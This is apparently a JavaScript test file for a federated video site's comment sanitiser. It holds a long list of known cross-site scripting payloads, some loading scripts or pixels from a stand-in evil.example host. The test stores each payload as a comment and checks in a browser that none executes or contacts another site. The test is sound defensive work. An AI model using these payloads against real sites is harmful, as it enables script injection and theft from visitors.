// hostile.test.mjs — known ways to smuggle scripts into HTML come in as comments from elsewhere, and
// are put into a page of a real browser as they are kept, without a Content-Security-Policy to help:
// nothing runs, nothing is asked of another site.

import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { after, before, test } from 'node:test';
import { startServer } from '../api/server.mjs';
import { launch } from '../browser/browser.mjs';
import { insert, settled, sql } from './peers.mjs';
import { replyOf, strangerOf } from './signed.mjs';

const H = 'window.hit=(window.hit||0)+1';
const payloads = [
  `<script>${H}</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>${H}</scr</script>ipt>`, `<script/x>${H}</script>`,
  `<img src=x onerror="${H}">`, `<img src=x oNeRrOr=${H}>`, `<IMG """><SCRIPT>${H}</SCRIPT>">`, `<img src="x\` onerror=${H}\`">`, `<img/src=x/onerror=${H}>`,
  `<image src=x onerror=${H}>`, `<img src=x:x onerror\n=${H}>`, `<svg onload=${H}>`, `<svg/onload=${H}//`, `<svg><script>${H}</script></svg>`,
  `<svg><script xlink:href="data:,${H}"></script></svg>`, `<svg><animate onbegin=${H} attributeName=x dur=1s>`, `<svg><set onbegin=${H}>`,
  `<svg><a><animate attributeName=href values="javascript:${H}" /><text x=20 y=20>x</text></a>`, `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${H}'/></svg>#x">`,
  `<svg><style><img src=x onerror=${H}></style></svg>`, `<svg><foreignObject><iframe srcdoc="<script>parent.${H}</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${H}&gt;">`,
  `<math><mtext><table><mglyph><style><math><img src onerror=${H}>`, `<math><annotation-xml encoding="text/html"><style><img src onerror=${H}></style></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${H} src>">`,
  `<math><mi//xlink:href="data:x,<script>${H}</script>">`, `<noscript><p title="</noscript><img src=x onerror=${H}>">`,
  `<noembed><p title="</noembed><img src=x onerror=${H}>">`, `<xmp><p title="</xmp><img src=x onerror=${H}>">`, `<title><p title="</title><img src=x onerror=${H}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${H}>">`, `<style><p title="</style><img src=x onerror=${H}>">`, `<iframe><p title="</iframe><img src=x onerror=${H}>">`,
  `<noframes><p title="</noframes><img src=x onerror=${H}>">`, `<plaintext><img src=x onerror=${H}>`, `<template><img src=x onerror=${H}></template>`,
  `<!--><img src=x onerror=${H}>-->`, `<!--[if gte IE 4]><script>${H}</script><![endif]-->`, `<![CDATA[<img src=x onerror=${H}>]]>`, `<?xml ?><img src=x onerror=${H}>`,
  `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${H}>">]>&y;`, `<a href="javascript:${H}">x</a>`, `<a href=" javascript:${H}">x</a>`, `<a href="java\tscript:${H}">x</a>`,
  `<a href="java\nscript:${H}">x</a>`, `<a href="&#106;avascript:${H}">x</a>`, `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;${H}">x</a>`,
  `<a href="\u0001javascript:${H}">x</a>`, `<a href="JaVaScRiPt:${H}">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`, `<a href="data:text/html,<script>${H}</script>">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`, `<a href="//evil.example/" onclick=${H}>x</a>`, `<a href="https://a.example/" target=_self ping="https://evil.example/">x</a>`,
  `<a href="javascript&colon;${H}">x</a>`, `<a href="javascript&#58;${H}">x</a>`, `<a xlink:href="javascript:${H}">x</a>`, `<a href=javascript://%0a${H}>x</a>`, `<a href="x:javascript:${H}">x</a>`,
  `<body onload=${H}>`, `<body onpageshow=${H}>`, `<html onmouseover=${H}>`, `<frameset onload=${H}>`, `<iframe src="javascript:parent.${H}"></iframe>`, `<iframe srcdoc="&lt;script>parent.${H}&lt;/script>"></iframe>`,
  `<embed src="data:image/svg+xml;base64,PHN2Zy8+" onload=${H}>`, `<object data="javascript:${H}"></object>`, `<object type="text/x-scriptlet" data="//evil.example/x"></object>`, `<applet code=x></applet>`,
  `<base href="https://evil.example/"><img src="pixel.png">`, `<meta http-equiv="refresh" content="0;url=javascript:${H}">`, `<meta http-equiv="Set-Cookie" content="x=1">`, `<link rel=stylesheet href="//evil.example/x.css">`,
  `<link rel=import href="data:text/html,<script>${H}</script>">`, `<style>@import '//evil.example/x.css';</style>`, `<style>*{background:url(//evil.example/x)}</style>`, `<p style="background:url(//evil.example/x)">x</p>`,
  `<p style="position:fixed;inset:0;z-index:99999">x</p>`, `<div style="behavior:url(x.htc)">x</div>`, `<p style="width:expression(${H})">x</p>`,
  `<input autofocus onfocus=${H}>`, `<select autofocus onfocus=${H}>`, `<textarea autofocus onfocus=${H}>`, `<keygen autofocus onfocus=${H}>`, `<button autofocus onfocus=${H}>x</button>`, `<p contenteditable autofocus onfocus=${H}>x</p>`,
  `<p tabindex=0 onfocus=${H} id=x autofocus>x</p>`, `<form action="javascript:${H}"><button>x</button></form>`, `<form><button formaction="javascript:${H}">x</button></form>`, `<form id=test></form><button form=test formaction="javascript:${H}">x</button>`,
  `<isindex type=image src=1 onerror=${H}>`, `<details open ontoggle=${H}><summary>x</summary></details>`, `<video src=x onerror=${H}></video>`, `<video><source onerror="${H}"></video>`, `<audio src=x onerror=${H}>`,
  `<video poster="//evil.example/x"></video>`, `<marquee onstart=${H}>x</marquee>`, `<bgsound src="javascript:${H}">`, `<table background="//evil.example/x"><td>x</td></table>`, `<p background="javascript:${H}">x</p>`,
  `<img src="//evil.example/pixel.png">`, `<img srcset="//evil.example/a 1x">`, `<picture><source srcset="//evil.example/a"><img></picture>`, `<input type=image src="//evil.example/a">`, `<img src=x onload=${H} lowsrc="//evil.example/a">`,
  `<p id="__proto__" name="constructor">x</p>`, `<form name="attributes"><input name="nodeName"></form>`, `<a id=hit></a><a id=hit name=x href="cid:x">x</a>`, `<p onpointerrawupdate=${H} onwheel=${H} onanimationstart=${H} class="x">x</p>`,
  `<p><style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${H}"></p>`, `<xss id=x tabindex=1 onfocus=${H}></xss>`, `<x onclick=${H}>x`, `<dialog open onclose=${H}><form method=dialog><button>x</button></form></dialog>`,
  `<portal src="javascript:${H}">`, `<p popover ontoggle=${H}>x</p>`, `<svg><discard onbegin=${H}>`, `<svg><image href="//evil.example/x"></svg>`, `<svg><feImage href="//evil.example/x"></svg>`, `<math href="javascript:${H}">x</math>`,
  `\u003cscript\u003e${H}\u003c/script\u003e`, `&lt;script&gt;${H}&lt;/script&gt;`, `%3Cscript%3E${H}%3C/script%3E`, `＜script＞${H}＜/script＞`, `<a href="https://a.example/"><a href="javascript:${H}">x</a></a>`,
  `${'<div>'.repeat(2000)}<img src=x onerror=${H}>`, `<p class="${'a '.repeat(5000)}" onclick=${H}>x</p>`, `<b>${'<i>'.repeat(600)}<svg onload=${H}>`,
  `<table><tr><td><table></tr><style><!--</style><a id="--><img src onerror=${H}>">`, `<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=${H}></a>">`,
  `<h1><svg><h1><style><a title="</style><img src onerror=${H}>"></style></h1></svg></h1>`, `<svg></p><style><a id="</style><img src=1 onerror=${H}>">`, `<svg><p><style><a id="</style><img src=1 onerror=${H}>"></p></svg>`,
  `<math></br><style><a title="</style><img src onerror=${H}>">`, `<ruby><rtc><svg><style><img src onerror=${H}></style></svg></rtc></ruby>`, `<option><style></option></select><b><img src=x onerror=${H}></style></option>`,
];

let server, browser, stranger, evil, asked = 0;
before(async () => {
  evil = createServer((request, answer) => { asked++; answer.end(); }).listen(0, '127.0.0.1');
  server = await startServer({ env: { ZOETROPE_FEDERATION_INSECURE: 'true' } });
  const now = Date.now();
  await insert(server, 'actor', { id: 50, kind: 'Person', name: 'alice', display_name: 'Alice', created_ms: now, updated_ms: now });
  await insert(server, 'actor', { id: 51, kind: 'Group', name: 'demo', display_name: 'Demo', owner_id: 50, created_ms: now, updated_ms: now });
  await insert(server, 'video', { id: 60, uuid: '7f0c9a3e-5d0b-4c55-9b3e-2f1d6a1c8b10', channel_id: 51, name: 'A video', privacy: 1, state: 1, playable: 1, listed: 1,
    source_name: 'a.mp4', source_bytes: 1, master_name: 'm', sha256_name: 's', created_ms: now, updated_ms: now, published_ms: now });
  stranger = await strangerOf(server, 'mallory');
  browser = await launch();
});
after(async () => {
  await browser?.close();
  evil?.close();
  await server?.stop();
});

test('nothing of what is known to smuggle scripts runs in a browser', async () => {
  for (const [i, payload] of payloads.entries()) {
    const content = payload.replaceAll('evil.example', `127.0.0.1:${evil.address().port}`);
    const answer = await stranger.post(replyOf(stranger, i, `<p>begin ${i}</p>${content}<p>end</p>`, `${server.url}/videos/watch/7f0c9a3e-5d0b-4c55-9b3e-2f1d6a1c8b10`));
    assert.equal(answer.status, 202, `${i}: ${answer.text}`);
  }
  await settled(server, 60000);
  const kept = await sql(server, 'SELECT html FROM comment ORDER BY id');
  assert.equal(kept.length, payloads.length);
  for (const { html } of kept) assert.match(html, /begin \d+/);

  const page = await browser.newPage();
  const dialogs = [];
  page.on('dialog', d => { dialogs.push(d.message()); d.dismiss(); });
  await page.goto(`${server.url}/api/v1/ping`); // of our site, without a policy
  const found = await page.evaluate(async all => {
    const wrong = [];
    for (const { html } of all) {
      const place = document.body.appendChild(document.createElement('div'));
      place.innerHTML = html;
      for (const e of place.querySelectorAll('*')) {
        if (/^(script|style|iframe|object|embed|form|input|button|svg|math|img|video|audio|base|link|meta|template)$/i.test(e.localName)) wrong.push(`<${e.localName}> of ${html}`);
        for (const a of e.attributes) if (/^on|^style$|^id$|^name$/i.test(a.name)) wrong.push(`${a.name} of ${html}`);
        if (e.localName === 'a' && e.hasAttribute('href') && !/^https?:$/.test(e.protocol)) wrong.push(`${e.href} of ${html}`);
      }
      for (const e of place.querySelectorAll('a, [tabindex]')) { e.target = '_blank'; e.dispatchEvent(new MouseEvent('mouseover', { bubbles: true })); e.focus(); }
    }
    await new Promise(done => setTimeout(done, 500));
    return { wrong, hit: window.hit };
  }, kept);
  assert.deepEqual(found, { wrong: [], hit: undefined });
  assert.deepEqual(dialogs, []);
  assert.equal(asked, 0, 'another site was asked');
});

test('a letter with NUL in it is refused', async () => {
  const answer = await stranger.post(replyOf(stranger, 'nul', '<scr\u0000ipt>x</script>', `${server.url}/videos/watch/7f0c9a3e-5d0b-4c55-9b3e-2f1d6a1c8b10`));
  assert.equal(answer.status, 400);
});

test('a text of nothing but tags, and none at all, are comments without text', async () => {
  const answer = await stranger.post(replyOf(stranger, 'empty', '<script></script>', `${server.url}/videos/watch/7f0c9a3e-5d0b-4c55-9b3e-2f1d6a1c8b10`));
  assert.equal(answer.status, 202, answer.text);
  await settled(server);
  assert.deepEqual(await sql(server, `SELECT html FROM comment WHERE uri LIKE '%/empty'`), [{ html: '' }]);
});
